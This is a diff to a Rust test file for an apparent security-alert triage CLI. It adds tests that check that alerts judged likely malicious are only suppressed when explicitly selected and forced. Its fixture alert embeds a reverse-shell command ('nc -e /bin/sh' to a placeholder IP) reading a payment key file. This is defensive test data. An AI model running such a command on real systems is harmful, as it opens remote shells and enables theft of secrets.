@@ -7,6 +7,9 @@ mod cli {
     use std::path::{Path, PathBuf};
     use std::process::{Command, Output, Stdio};
 
+    /// An alert that is judged likely malicious.
+    const ATTACK: &str = r#"{"rule":"Payment key read","priority":"Warning","source":"syscall","output_fields":{"proc.exepath":"/tmp/.x/nc","container.id":"host","fd.name":"/run/pay.key","proc.name":"nc","proc.cmdline":"nc -e /bin/sh 203.0.113.9 4444"}}"#;
+
     fn fixture(name: &str) -> PathBuf {
         Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures").join(name)
     }
@@ -266,10 +269,34 @@ mod cli {
     #[test]
     fn nothing_to_mitigate_says_why() {
         let folder = tempfile::tempdir().unwrap();
-        let (input, out) = (fixture("custom_rule.json"), folder.path().join("out"));
+        let (input, out) = (folder.path().join("attack.json"), folder.path().join("out"));
+        fs::write(&input, ATTACK).unwrap();
         let (_, said) = succeeds(&["mitigate", text(&input), "-o", text(&out)], b"");
-        assert!(said.contains("without a knowledge entry"), "{said}");
+        assert!(said.contains("judged likely malicious"), "{said}");
         assert!(!out.exists());
+    }
+
+    #[test]
+    fn an_attack_is_hidden_only_where_it_is_named_and_insisted_on() {
+        let folder = tempfile::tempdir().unwrap();
+        let (input, out) = (folder.path().join("attack.json"), folder.path().join("out"));
+        fs::write(&input, ATTACK).unwrap();
+        let (json, _) = succeeds(&["report", "--format", "json", text(&input)], b"");
+        let report: serde_json::Value = serde_json::from_str(&json).unwrap();
+        let id = report["findings"][0]["id"].as_str().unwrap();
+        let selected = ["mitigate", text(&input), "-o", text(&out), "--select", id];
+        succeeds(&selected, b"");
+        assert!(!out.exists());
+        succeeds(&[selected.as_slice(), &["--force", "--now", "2026-01-31T08:00:00Z"]].concat(), b"");
+        let proof = fs::read_to_string(out.join("proof.json")).unwrap();
+        let proof: serde_json::Value = serde_json::from_str(&proof).unwrap();
+        let file = proof["mitigations"][0]["file"].as_str().unwrap();
+        let content = fs::read_to_string(out.join(file)).unwrap();
+        for said in ["# Made at 2026-01-31T08:00:00", "# WARNING: hides 1 alerts"] {
+            assert!(content.contains(said), "{content}");
+        }
+        let unknown = ["mitigate", text(&input), "-o", text(&out), "--select", "0000"];
+        assert!(fails(&unknown, b"").contains("no finding has the id `0000`"));
     }
 
     #[test]
